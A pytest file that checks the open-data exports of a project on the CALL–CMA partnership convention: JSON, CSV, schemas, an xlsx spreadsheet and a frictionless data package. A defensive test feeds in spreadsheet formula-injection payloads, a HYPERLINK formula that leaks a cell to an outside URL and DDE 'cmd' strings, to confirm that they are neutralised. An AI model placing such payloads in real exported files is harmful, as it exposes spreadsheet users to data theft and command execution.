"""Export stage: convention.json, faits.csv and schema.json say what the data says, and read back as it."""

from __future__ import annotations

import csv
import html
import io
import json
import re
import subprocess
import sys
from dataclasses import replace
import shutil
from dataclasses import astuple, replace
from pathlib import Path
from typing import Any

import frictionless
import jsonschema
import openpyxl
from referencing import Registry, Resource
import pytest

from callcma import stages
from callcma.history import History, Status
from callcma.open_data import CSV_JOIN, DATA_PACKAGE_NAME, FILE_SCHEMA_NAME, SCHEMA_NAME, SHEETS, SPREADSHEET_NAME, TABLES, Table, export_value, fact_rows
from callcma.stages.s1_load import load_document
from callcma.formatting import format_number
from callcma.model import DatePart, Dataset, Fact
from callcma.stages.s2_check import Checked
from callcma.stages.s3_export import export_csv, export_data, neutralise_cell
from callcma.settings import DATA_EXPORT_DIR
from callcma.spreadsheet import Sheet, spreadsheet_bytes
from helpers import PROJECT

ADDED_FACT = Path(__file__).parent / "fixtures" / "export" / "budget-fait-ajoute.yaml"


@pytest.fixture(scope="module")
def exports(checked: Checked) -> dict[str, bytes]:
    return export_data(checked)


@pytest.fixture(scope="module")
def validator(exports: dict[str, bytes]) -> jsonschema.Draft202012Validator:
    """schema.json: the data as a whole (convention.json)."""
    schema = json.loads(exports[SCHEMA_NAME])
    jsonschema.Draft202012Validator.check_schema(schema)
    return jsonschema.Draft202012Validator(schema)


@pytest.fixture(scope="module")
def file_validator(exports: dict[str, bytes]) -> jsonschema.Draft202012Validator:
    """schema-fichier.json: one file of data/, its sections as schema.json defines them (found beside it)."""
    schemas = {name: json.loads(exports[name]) for name in (SCHEMA_NAME, FILE_SCHEMA_NAME)}
    jsonschema.Draft202012Validator.check_schema(schemas[FILE_SCHEMA_NAME])
    registry = Registry().with_resources((name, Resource.from_contents(schema)) for name, schema in schemas.items())
    return jsonschema.Draft202012Validator(schemas[FILE_SCHEMA_NAME], registry=registry)


def test_the_whole_data_requires_what_the_model_requires_and_a_file_any_of_its_sections(
    validator: jsonschema.Draft202012Validator, file_validator: jsonschema.Draft202012Validator
) -> None:
    missing = [error.message for error in validator.iter_errors({})]
    assert "'sources' is a required property" in missing and "'budget' is a required property" in missing
    assert list(file_validator.iter_errors({})) == []
    assert [error.message for error in file_validator.iter_errors({"budjet": []})] == ["Additional properties are not allowed ('budjet' was unexpected)"]
    # A section of a file is checked in full, through schema.json's definitions.
    assert list(file_validator.iter_errors({"budget": [{"id": "x"}]})) != []


FACTS = TABLES[0]


def _rows(content: bytes, table: Table = FACTS) -> list[dict[str, str]]:
    """A CSV's rows by field name, once its header is checked: the byte order mark, then the columns' French titles."""
    assert content.startswith("\ufeff".encode())
    lines = list(csv.reader(io.StringIO(content.decode("utf-8").removeprefix("\ufeff"), newline="")))
    assert lines[0] == list(table.wording().titles.values())
    return [dict(zip(table.columns, line, strict=True)) for line in lines[1:]]


def _errors(validator: jsonschema.Draft202012Validator, content: Any) -> list[tuple[str, str]]:
    return sorted((error.json_path, error.message) for error in validator.iter_errors(content))


def test_convention_json_validates_against_the_schema_and_reads_back_as_the_same_model(
    exports: dict[str, bytes], validator: jsonschema.Draft202012Validator, dataset: Dataset
) -> None:
    assert _errors(validator, json.loads(exports["convention.json"])) == []
    assert Dataset.model_validate_json(exports["convention.json"]) == dataset


def test_exports_are_stable_utf8_in_the_models_key_order(exports: dict[str, bytes], checked: Checked, dataset: Dataset) -> None:
    assert export_data(checked) == exports
    data = json.loads(exports["convention.json"])
    assert list(data) == list(Dataset.model_fields)
    assert list(data["budget"][0]) == list(Fact.model_fields)
    assert "Communauté d'agglomération de Lens-Liévin" in exports["convention.json"].decode("utf-8")


@pytest.mark.parametrize(
    ("section", "fact_id", "value", "unit"),
    [
        ("budget", "budget-montant", 140000, "EUR"),
        ("budget", "budget-moyenne-annuelle", 46667, "EUR-par-an"),
        ("territory", "territoire-salaries", 5400, "salariés"),
        ("budget", "budget-financeurs", "les deux partenaires, la CALL et la CMA, ensemble", None),
    ],
)
def test_values_keep_their_type_and_amounts_their_currency(exports: dict[str, bytes], section: str, fact_id: str, value: Any, unit: str | None) -> None:
    fact = next(item for item in json.loads(exports["convention.json"])[section] if item["id"] == fact_id)
    assert (fact["value"], type(fact["value"]), fact["unit"]) == (value, type(value), unit)


def test_csv_has_one_row_per_fact_with_its_certainty_source_and_quote(exports: dict[str, bytes], checked: Checked, dataset: Dataset) -> None:
    assert exports["faits.csv"].decode("utf-8").splitlines()[0] == "\ufeff" + ",".join(FACTS.wording().titles.values())
    assert b"\r\n" in exports["faits.csv"]
    rows = _rows(exports["faits.csv"])
    facts = list(dataset.cited_by_section())
    assert [row["id"] for row in rows] == [item.id for _, item in facts]
    for row, (section, item) in zip(rows, facts, strict=True):
        assert row["label"] == item.label
        assert row["value"] == str(export_value(item))
        assert row["certainty"] == item.certainty.value
        assert row["source"] == CSV_JOIN.join(citation.source for citation in item.citations)
        assert row["quote"] == CSV_JOIN.join(citation.quote or "" for citation in item.citations)
        assert row["record"] == CSV_JOIN.join(citation.record or "" for citation in item.citations)
        assert row["section"] == checked.section_pages[section].removesuffix(".md")  # the page's name, in French


@pytest.mark.parametrize(
    ("fact_id", "columns"),
    [
        ("territoire-salaries", {"certainty": "déclaration", "speaker": "Alain Griset", "reasoning": "", "formula": "", "section": "territoire"}),
        ("budget-moyenne-annuelle", {"certainty": "calculé", "speaker": "", "formula": "budget-montant / budget-duree", "section": "budget"}),
        ("date-signature", {"certainty": "déduit", "speaker": "", "formula": "", "section": "calendrier"}),
        ("robert-fonction", {"section": "partenaires"}),
    ],
)
def test_csv_says_whose_statement_why_and_how_in_french_sections(exports: dict[str, bytes], fact_id: str, columns: dict[str, str]) -> None:
    row = next(row for row in _rows(exports["faits.csv"]) if row["id"] == fact_id)
    assert {name: row[name] for name in columns} == columns
    assert bool(row["reasoning"]) == (row["certainty"] == "déduit")


@pytest.mark.parametrize(
    ("fact_id", "value", "unit"),
    [
        ("budget-montant", "140000", "EUR"),
        ("territoire-salaries", "5400", "salariés"),
        ("date-signature", "2016-11-16", ""),
        ("date-plan", "2017/2020", ""),
    ],
)
def test_csv_writes_numbers_plainly_and_dates_in_iso_8601(exports: dict[str, bytes], fact_id: str, value: str, unit: str) -> None:
    row = next(row for row in _rows(exports["faits.csv"]) if row["id"] == fact_id)
    assert (row["value"], row["unit"]) == (value, unit)


@pytest.mark.parametrize(
    ("fact_id", "value", "precision", "deduced"),
    [
        ("date-signature", "2016-11-16", "jour", "année"),
        ("date-debut-creations", "2015", "année", ""),
        ("date-plan", "2017/2020", "année/année", ""),
        ("budget-montant", "140000", "", ""),
    ],
)
def test_csv_says_how_precise_each_date_is_and_which_part_is_deduced(exports: dict[str, bytes], fact_id: str, value: str, precision: str, deduced: str) -> None:
    row = next(row for row in _rows(exports["faits.csv"]) if row["id"] == fact_id)
    assert (row["value"], row["date_precision"], row["date_deduced"]) == (value, precision, deduced)


def test_a_date_deducing_several_parts_lists_them_all(checked: Checked, dataset: Dataset) -> None:
    event = dataset.facts_by_id["date-signature"].model_copy(update={"date": "2016-11", "deduced": [DatePart.MONTH, DatePart.YEAR]})
    row = next(row for row in fact_rows(replace(checked, dataset=dataset.model_copy(update={"timeline": [event]}))) if row.id == event.id)
    assert (row.value, row.date_precision, row.date_deduced) == ("2016-11", "mois", CSV_JOIN.join(["mois", "année"]))


def test_a_fact_added_to_the_yaml_appears_in_every_export(data_copy: Path, tmp_path: Path) -> None:
    budget = data_copy / "budget.yaml"
    budget.write_text(budget.read_text(encoding="utf-8") + ADDED_FACT.read_text(encoding="utf-8"), encoding="utf-8")
    docs = tmp_path / "docs"
    stages.generate_site_sources(replace(PROJECT, data_dir=data_copy, docs_dir=docs))
    exported = docs / DATA_EXPORT_DIR
    data = json.loads((exported / "convention.json").read_text(encoding="utf-8"))
    assert data["budget"][-1] | {"citations": None} == {
        "id": "budget-horizon",
        "label": "Horizon, « à venir »",
        "certainty": "attesté",
        "citations": None,
        "reasoning": None,
        "formula": None,
        "speaker": None,
        "deduced": None,
        "unit": None,
        "value": "les trois années à venir",
    }
    schema = json.loads((exported / SCHEMA_NAME).read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator(schema).validate(data)
    row = next(row for row in _rows((exported / "faits.csv").read_bytes()) if row["id"] == "budget-horizon")
    assert row == {
        "id": "budget-horizon",
        "label": "Horizon, « à venir »",
        "value": "les trois années à venir",
        "unit": "",
        "date_precision": "",
        "date_deduced": "",
        "certainty": "attesté",
        "source": "article-call-cma-partenariat",
        "quote": "140 000 euros sur les trois années à venir",
        "record": "",
        "speaker": "",
        "reasoning": "",
        "formula": "",
        "section": "budget",
    }


@pytest.mark.parametrize("name", sorted(path.name for path in PROJECT.data_dir.glob("*.yaml")))
def test_every_data_file_validates_against_the_schema_it_names(name: str, file_validator: jsonschema.Draft202012Validator) -> None:
    path = PROJECT.data_dir / name
    assert path.read_text(encoding="utf-8").startswith(f"# yaml-language-server: $schema=../docs/{DATA_EXPORT_DIR}/{FILE_SCHEMA_NAME}\n")
    assert _errors(file_validator, load_document(path, f"data/{name}").content) == []


CERTAINTIES = "['attesté', 'appréciation', 'déduit', 'calculé', 'déclaration']"


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        ("value: 140000", 'value: "140 000"', [("$.budget[0].value", "'140 000' is not of type 'number'")]),
        ("value: 140000", "value: -140000", [("$.budget[0].value", "-140000 is less than or equal to the minimum of 0")]),
        ("unit: EUR", "unit: 3 euros", [("$.budget[0].unit", "'3 euros' is not valid under any of the given schemas")]),
        ("certainty: attesté", "certainty: sûr", [("$.budget[0].certainty", f"'sûr' is not one of {CERTAINTIES}")]),
        ("certainty: attesté", "certainty: déduit", [("$.budget[0]", "'reasoning' is a required property")]),
        (
            "label: Montant",
            "libelle: Montant",
            [("$.budget[0]", "'label' is a required property"), ("$.budget[0]", "Additional properties are not allowed ('libelle' was unexpected)")],
        ),
    ],
)
def test_the_schema_flags_what_an_editor_should_flag(
    data_copy: Path, file_validator: jsonschema.Draft202012Validator, old: str, new: str, expected: list[tuple[str, str]]
) -> None:
    budget = data_copy / "budget.yaml"
    budget.write_text(budget.read_text(encoding="utf-8").replace(old, new, 1), encoding="utf-8")
    assert _errors(file_validator, load_document(budget, "data/budget.yaml").content) == expected


@pytest.fixture(scope="module")
def site(built_site: Path) -> Path:
    return built_site


def test_the_open_data_page_links_each_file_relatively_with_its_size(site: Path, exports: dict[str, bytes], checked: Checked) -> None:
    page = (site / "donnees.html").read_text(encoding="utf-8")
    rows = re.findall(r'<li><a class="fichier" href="([^"]+)">([^<]+)</a> \(([^)]+)\)', page)
    # The site was built in a copy of the repository without its history: the files that hold it say so.
    files = export_data(replace(checked, history=History(Status.UNAVAILABLE)))
    assert [name for _, name, _ in rows] == list(files) == list(exports)
    for href, name, size in rows:
        # Relative to the page, so that the link also works from file:// and from any folder of a host.
        assert href == f"{DATA_EXPORT_DIR}/{name}"
        target = site / href
        assert target.read_bytes() == files[name]
        # Written by the site's number formatter (Babel rounds 24,95 up to 25,0, where Python's "%.1f" gives 24,9).
        assert html.unescape(size) == format_number(target.stat().st_size / 1000, "fr", places=1) + "\u00a0ko"
    assert 'href="https://www.etalab.gouv.fr/licence-ouverte-open-licence/"' in page


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("https://example.org/?d="&A1,"Cliquez")', '\'=HYPERLINK("https://example.org/?d="&A1,"Cliquez")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Montant = 140 000 €", "Montant = 140 000 €"),
        ("'déjà cité'", "'déjà cité'"),
    ],
)
def test_csv_text_cells_that_a_spreadsheet_would_evaluate_start_with_an_apostrophe(checked: Checked, dataset: Dataset, text: str, cell: str) -> None:
    fact = dataset.budget[0]
    hostile = dataset.model_copy(update={"budget": [fact.model_copy(update={"label": text, "value": text, "unit": None}), *dataset.budget[1:]]})
    row = next(row for row in _rows(export_csv(fact_rows(replace(checked, dataset=hostile))).encode("utf-8")) if row["id"] == fact.id)
    assert (row["label"], row["value"]) == (cell, cell)


@pytest.mark.parametrize("number", [-2, -0.5, 140000, 2.5])
def test_csv_numbers_stay_numbers(number: int | float) -> None:
    assert neutralise_cell(number) == number


def test_the_spreadsheet_of_unchanged_tables_is_reused_without_loading_its_library(checked: Checked, tmp_path: Path) -> None:
    cache = tmp_path / "cache"
    made = export_data(checked, cache)["faits.xlsx"]
    assert made == export_data(checked)["faits.xlsx"]
    # A fresh process, as the next build: the same tables give the cached file, and openpyxl is never imported.
    code = (
        "import sys\nfrom pathlib import Path\nfrom callcma import stages\nfrom callcma.settings import Settings\n"
        "from callcma.stages.s3_export import export_data\n"
        "xlsx = export_data(stages.check(Settings.from_root(Path(sys.argv[1]))), Path(sys.argv[2]))['faits.xlsx']\n"
        "sys.stdout.buffer.write(xlsx)\nsys.exit('openpyxl' in sys.modules)\n"
    )
    result = subprocess.run([sys.executable, "-c", code, str(PROJECT.root), str(cache)], capture_output=True, check=False)
    assert result.returncode == 0, result.stderr
    assert result.stdout == made
    # Another table: made again.
    edited = replace(checked, dataset=checked.dataset.model_copy(update={"communes": checked.dataset.communes[1:]}))
    assert export_data(edited, cache)["faits.xlsx"] not in (made, None)
    assert export_data(edited, cache)["faits.xlsx"] == export_data(edited)["faits.xlsx"]


@pytest.fixture(scope="module")
def open_data(exports: dict[str, bytes], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The open data as the site publishes it, in a folder of its own."""
    folder = tmp_path_factory.mktemp(DATA_EXPORT_DIR)
    for name, content in exports.items():
        (folder / name).write_bytes(content)
    return folder


def _errors_of(package: Path) -> list[tuple[str, str]]:
    """What frictionless finds wrong with a data package: each error as (its resource, its type)."""
    report = frictionless.validate(str(package))
    return [("", error.type) for error in report.errors] + [(task.name, error.type) for task in report.tasks for error in task.errors]


def test_frictionless_finds_the_data_package_and_its_tables_valid(open_data: Path, checked: Checked, dataset: Dataset) -> None:
    report = frictionless.validate(str(open_data / DATA_PACKAGE_NAME))
    assert report.valid, report.flatten(["type", "note"])
    assert {task.name: task.stats["rows"] for task in report.tasks} == {
        "faits": len(list(dataset.cited_by_section())),
        "communes": len(dataset.communes),
        "historique": len(list(checked.history.changes())),
    }
    assert len(list(checked.history.changes())) > 100  # the tests run in a clone with its history
    package = json.loads((open_data / DATA_PACKAGE_NAME).read_text(encoding="utf-8"))
    assert [(resource["path"], resource["schema"]) for resource in package["resources"]] == [(table.csv_name, table.schema_name) for table in TABLES]


@pytest.mark.parametrize(
    ("table", "old", "new", "error"),
    [
        ("faits", "Identifiant,Libellé", "id,Libellé", "incorrect-label"),
        ("faits", "\r\nbudget-duree,", "\r\nbudget-montant,", "primary-key"),
        ("faits", ",attesté,", ",sûr,", "constraint-error"),
        ("faits", ",jour,année,", ",semaine,année,", "constraint-error"),
        ("faits", ",jour,année,", ",jour,siècle,", "constraint-error"),
        ("faits", "\r\nbudget-montant,", "\r\nBudget Montant,", "constraint-error"),
        ("faits", ",budget\r\n", ",tableur\r\n", "constraint-error"),
        ("communes", "\r\n62498,", "\r\n6249,", "constraint-error"),
        ("communes", ",62300,", ",623000,", "constraint-error"),
        ("communes", ",Lens,", ",,", "constraint-error"),
        ("historique", "\r\n20", "\r\n", "type-error"),  # a date of two digits' year
        ("historique", ",fact,", ",fait,", "constraint-error"),
        ("historique", ",label,", ",libellé,", "constraint-error"),
    ],
)
def test_frictionless_refuses_a_table_its_schema_does_not_describe(open_data: Path, tmp_path: Path, table: str, old: str, new: str, error: str) -> None:
    copy = tmp_path / "copie"
    shutil.copytree(open_data, copy)
    path = copy / f"{table}.csv"
    text = path.read_bytes().decode("utf-8")
    assert old in text
    path.write_bytes(text.replace(old, new, 1).encode("utf-8"))
    assert (table, error) in _errors_of(copy / DATA_PACKAGE_NAME)


def test_frictionless_refuses_a_csv_in_another_encoding(open_data: Path, tmp_path: Path) -> None:
    copy = tmp_path / "copie"
    shutil.copytree(open_data, copy)
    path = copy / "communes.csv"
    path.write_bytes(path.read_bytes().decode("utf-8").removeprefix("\ufeff").encode("cp1252"))
    assert _errors_of(copy / DATA_PACKAGE_NAME) != []


def _sheet_report(folder: Path, table: Table) -> frictionless.Report:
    """frictionless' verdict on a sheet of the spreadsheet in ``folder``, against its table's Table Schema."""
    schema = frictionless.Schema.from_descriptor(json.loads((folder / table.schema_name).read_bytes()))
    control = frictionless.formats.ExcelControl(sheet=table.name)
    return frictionless.Resource(SPREADSHEET_NAME, basepath=str(folder), format="xlsx", control=control, schema=schema).validate()


def test_each_sheet_of_the_spreadsheet_has_its_csv_s_columns_and_passes_the_same_table_schema(open_data: Path, exports: dict[str, bytes]) -> None:
    assert openpyxl.load_workbook(io.BytesIO(exports[SPREADSHEET_NAME]), read_only=True).sheetnames == [table.name for table in SHEETS] == ["faits", "communes"]
    for table in SHEETS:
        report = _sheet_report(open_data, table)
        assert report.valid, (table.name, report.flatten(["type", "note"]))
        assert report.task.stats["rows"] == len(_rows(exports[table.csv_name], table))


def test_a_sheet_headed_otherwise_than_its_csv_is_refused(open_data: Path, tmp_path: Path, checked: Checked) -> None:
    shutil.copytree(open_data, tmp_path, dirs_exist_ok=True)
    table = TABLES[0]
    (tmp_path / SPREADSHEET_NAME).write_bytes(spreadsheet_bytes(Sheet(table.name, table.columns, [astuple(row) for row in table.rows(checked)])))
    assert "incorrect-label" in [error.type for error in _sheet_report(tmp_path, table).task.errors]
